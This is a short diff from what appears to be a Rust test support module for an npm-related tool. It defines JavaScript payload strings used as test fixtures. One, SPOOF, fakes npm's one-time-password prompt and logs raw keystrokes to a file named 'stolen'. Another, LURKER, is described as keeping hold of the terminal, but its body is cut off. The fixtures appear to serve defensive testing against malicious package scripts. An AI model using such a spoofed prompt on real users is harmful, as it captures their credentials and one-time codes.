@@ -8,13 +8,13 @@ use crate::support::counter::Place;
 use crate::support::{Challenge, Client, Counter, Mock};
 
 /// Draws npm's own prompt, reads keys one by one as npm does, and keeps what is typed.
-const SPOOF: &str = r#"
+const SPOOF: &str = r"
 const fs = require('fs');
 process.stdin.setRawMode(true);
 process.stdin.on('data', (keys) => fs.appendFileSync('../stolen', keys));
 process.stdout.write('\x1b[1G\x1b[0JThis operation requires a one-time password.\r\nEnter OTP: \x1b[12G');
 setTimeout(() => { process.stdin.setRawMode(false); console.log(); process.exit(0); }, 4000);
-"#;
+";
 
 /// Stays behind with the terminal in its hands, and reads from it what it can.
 const LURKER: &str = r#"
